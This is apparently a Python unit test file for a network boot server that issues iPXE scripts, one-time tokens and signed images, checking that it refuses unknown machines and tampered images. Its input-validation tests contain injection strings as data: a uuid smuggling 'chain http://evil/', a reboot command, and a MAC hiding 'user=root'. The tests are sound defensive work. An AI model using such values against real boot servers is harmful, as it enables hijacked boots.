"""Who gets a script, what is told of it, and which images a boot server sends."""

import asyncio
import re
from collections.abc import Awaitable, Callable
from pathlib import Path

import msgspec

from core.events import BootSeen, JoinRefused
from core.gate import Gate, Refused
from core.ids import Guid, NodeId
from drivers.image.manifest import MANIFEST, make_keys
from drivers.join.tokens import digest
from drivers.netboot.memory import Memory
from drivers.netboot.reports import KEPT_MAX, Reports
from tests.unit.boot_server import BootServer, mac_of, make_image, uuid_of


def served(folder: Path, do: Callable[[BootServer], Awaitable[None]]) -> None:
    """Run a boot server and do something with it."""

    async def run() -> None:
        server = BootServer(folder)
        await server.start()
        try:
            async with asyncio.timeout(60):
                await do(server)
        finally:
            await server.http.stop()

    asyncio.run(run())


def token_in(script: str) -> str:
    """The token of a script, "" if it has none."""
    found = re.search(r"moxie\.token=([0-9a-f]{64}) ", script)
    return found[1] if found else ""


def test_an_expected_machine_gets_its_script_once_with_a_token_that_is_kept_nowhere(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        server.allow(6)
        token = token_in(await server.script(6))
        window = server.gate.window(NodeId("n6"))
        assert window is not None
        assert window.token == digest(token)
        assert token not in msgspec.json.encode(server.boots.kept()).decode()
        assert "(asked twice)" in await server.script(6)
        assert server.told == [("BootSeen", "n6", "script"), ("JoinRefused", "n6", "asked_twice")]

    served(tmp_path, do)


def test_strangers_clones_and_late_machines_get_nothing_and_the_rack_hears_why(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        assert "(unknown machine)" in await server.script(9)
        server.allow(6, macs=("52:54:00:98:00:06",))
        assert "(wrong mac)" in await server.script(6, mac=mac_of(7))
        assert "(wrong machine)" in await server.script(6, uuid=uuid_of(9))
        server.gate.retire(Guid(uuid_of(8).replace("-", "")), NodeId("n8"))
        assert "(retired)" in await server.script(8)
        server.now_ms += 60_000
        assert "(window closed)" in await server.script(6)
        reasons = [what for _, _, what in server.told]
        assert reasons == ["unknown_machine", "wrong_mac", "wrong_machine", "retired", "window_closed"]

    served(tmp_path, do)


def test_what_is_no_machine_at_all_is_no_request_and_nothing_of_it_is_repeated(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        for uuid in ("x%0achain%20http://evil/", "';%20reboot", "%00", "a" * 5_000, "%1b[31m"):
            script = await server.script(6, uuid=uuid)
            assert script == "#!ipxe\necho Moxie: not booted from the network (bad request)\nexit 1\n"
        for told in server.reports.kept:
            assert isinstance(told.event, JoinRefused)
            assert re.fullmatch(r"[\x20-\x7e]{1,200}", told.event.detail)

    served(tmp_path, do)


def test_a_machine_is_known_by_its_identity_in_any_order_of_bytes(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        server.allow(6)
        assert token_in(await server.script(6, uuid="44332211-6655-8877-9900-aabbccdd0006"))

    served(tmp_path, do)


def test_a_new_window_of_a_node_is_a_new_chance_and_the_same_order_again_is_none(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        first = server.allow(6)
        assert token_in(await server.script(6))
        server.boots.allow(first)
        assert not token_in(await server.script(6))
        server.allow(6)
        server.boots.allow(first)  # an agent that came back says what it said before
        assert token_in(await server.script(6))

    served(tmp_path, do)


def test_an_order_that_makes_no_sense_opens_nothing(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        good = server.allow(6)
        server.gate.close(NodeId("n6"))
        for effect, address in (
            (msgspec.structs.replace(good.effect, guid=Guid("")), "10.98.0.6"),
            (msgspec.structs.replace(good.effect, macs=("nonsense\nuser=root",)), "10.98.0.6"),
            (good.effect, "10.99.0.6"),
            (good.effect, ""),
        ):
            key = f"{address} {effect}"
            server.boots.allow(msgspec.structs.replace(good, key=key, effect=effect, address=address))
            assert server.gate.window(NodeId("n6")) is None, key
        server.boots.allow(msgspec.structs.replace(good, key="late", until_ms=server.now_ms))
        assert server.gate.window(NodeId("n6")) is None

    served(tmp_path, do)


def test_dhcp_expects_a_machine_until_it_joined_or_its_time_is_over(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        server.allow(6)
        server.allow(7, ms=1_000)
        assert [(one.node, one.address) for one in server.boots.expected()] == [
            ("n6", "10.98.0.6"),
            ("n7", "10.98.0.7"),
        ]
        server.now_ms += 1_000
        token = token_in(await server.script(6))
        assert [one.node for one in server.boots.expected()] == ["n6"]  # firmware may ask again
        server.gate.redeem(digest(token), uuid_of(6), mac_of(6), server.image, server.now_ms)
        assert server.boots.expected() == ()

    served(tmp_path, do)


def test_each_stage_of_a_boot_is_told_once(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        server.allow(6)
        for _ in range(2):
            server.boots.offered(NodeId("n6"), "52:54:00:98:00:06")
        await server.script(6)
        for name in ("vmlinuz", "initrd.img", "initrd.img", "root.squashfs"):
            await server.get(f"/images/{server.image}/{name}", number=6)
        await server.get(f"/images/{server.image}/root.squashfs", number=7)
        assert [what for _, _, what in server.told] == ["offered", "script", "kernel", "image"]

    served(tmp_path, do)


def test_half_an_image_is_no_image(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        server.allow(6)
        await server.script(6)
        path = f"/images/{server.image}/root.squashfs"
        await server.get(path, number=6, Range="bytes=0-999999")
        assert [what for _, _, what in server.told] == ["script"]
        await server.get(path, number=6, Range="bytes=1000000-")
        assert [what for _, _, what in server.told] == ["script", "image"]

    served(tmp_path, do)


def test_a_service_that_was_killed_goes_on_where_it_was(tmp_path: Path) -> None:
    boot_id = tmp_path / "boot_id"
    boot_id.write_text("one\n", encoding="ascii")
    memory = Memory(tmp_path / "windows.json", boot_id)

    async def do(server: BootServer) -> None:
        order = server.allow(6)
        server.allow(7)
        token = token_in(await server.script(6))
        memory.save(*server.boots.kept())
        server.gate = Gate()
        server.boots = server.make_boots(server.image)
        server.boots.restore(memory.load())
        server.boots.allow(order)
        assert [one.node for one in server.boots.expected()] == ["n6", "n7"]
        admitted = server.gate.redeem(digest(token), uuid_of(6), mac_of(6), server.image, server.now_ms)
        assert admitted.node == "n6"
        assert "(asked twice)" in await server.script(6)
        assert token_in(await server.script(7))
        memory.save(*server.boots.kept())
        server.gate = Gate()
        server.boots = server.make_boots(server.image)
        server.boots.restore(memory.load())
        again = server.gate.redeem(digest(token), uuid_of(6), mac_of(6), server.image, server.now_ms)
        assert isinstance(again, Refused)
        assert again.reason == "token_spent"

    served(tmp_path, do)
    boot_id.write_text("two\n", encoding="ascii")
    assert Memory(tmp_path / "windows.json", boot_id).load().wards == ()
    (tmp_path / "windows.json").write_text("{half", encoding="ascii")
    assert memory.load().wards == ()


def test_an_image_that_was_tampered_with_is_not_sent(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        root = server.images / server.image / "root.squashfs"
        path = f"/images/{server.image}/root.squashfs"
        assert (await server.get(path)).status == 200
        data = bytearray(root.read_bytes())
        data[1_000] ^= 1
        root.write_bytes(data)
        for _ in range(100):
            answer = await server.get(path)
            if answer.status == 404:
                break
            assert answer.status == 503  # it is being looked at
            await asyncio.sleep(0.02)
        assert answer.status == 404
        server.allow(6)
        assert "is not here" in await server.script(6)

    served(tmp_path, do)


def test_an_image_that_came_later_is_verified_at_its_first_use(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        later = make_image(server.images, b"later")
        server.allow(6, image=later)
        script = await server.script(6)
        while "asks again" in script:
            await asyncio.sleep(0.02)
            script = await server.script(6)
        assert f"moxie.image={later}" in script

    served(tmp_path, do)


def test_a_server_without_the_image_sends_machines_to_one_that_has_it(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        guest = BootServer(tmp_path / "guest", own=False)
        guest.images.mkdir(parents=True)
        (guest.images / "images.pub").write_bytes((server.images / "images.pub").read_bytes())
        guest.others = (f"127.0.0.1:{server.port}",)
        await guest.start()
        server.others = (f"127.0.0.1:{guest.port}",)
        try:
            guest.allow(6, image=server.image)
            script = await guest.script(6)
            while "asks again" in script:
                await asyncio.sleep(0.02)
                script = await guest.script(6)
            assert token_in(script)
            path = f"/images/{server.image}/root.squashfs"
            moved = await guest.get(path, number=6)
            assert (moved.status, moved.fields["location"]) == (302, f"http://127.0.0.1:{server.port}{path}")
            signed = f"/images/{server.image}/{MANIFEST}"
            assert (await guest.get(signed)).body == (await server.get(signed)).body  # who joins follows nobody
            assert (await guest.get(f"{signed}?own=1")).status == 404
            assert [what for _, _, what in guest.told] == ["script", "image"]
            assert (await guest.get("/images/0123456789abcdef/root.squashfs")).status == 404  # asks nobody for it
        finally:
            await guest.http.stop()

    served(tmp_path, do)


def test_an_image_that_nobody_of_ours_signed_is_not_borrowed(tmp_path: Path) -> None:
    async def do(server: BootServer) -> None:
        guest = BootServer(tmp_path / "guest", own=False)
        make_keys(guest.images)
        guest.others = (f"127.0.0.1:{server.port}",)
        assert await guest.shelf.look(server.image) is None
        (guest.images / "images.pub").write_bytes((server.images / "images.pub").read_bytes())
        borrowed = await guest.shelf.look(server.image)
        assert borrowed is not None
        assert borrowed.server == f"127.0.0.1:{server.port}"

    served(tmp_path, do)


def test_events_are_kept_until_they_are_heard_and_no_more_than_a_bounded_number() -> None:
    reports = Reports(lambda: 0)
    for number in range(KEPT_MAX + 10):
        reports.tell(BootSeen(at_ms=0, node=NodeId("n6"), stage="script", detail=str(number)))
    assert [told.number for told in reports.kept][:2] == [11, 12]
    reports.heard(KEPT_MAX + 9)
    assert [told.number for told in reports.kept] == [KEPT_MAX + 10]
    reports.heard(KEPT_MAX + 10)
    assert reports.kept == ()


def test_refusals_do_not_fill_the_journals_of_the_rack() -> None:
    reports = Reports(lambda: 0)
    for _ in range(500):
        reports.tell(JoinRefused(at_ms=0, reason="unknown_machine"))
    assert len(reports.kept) == 20
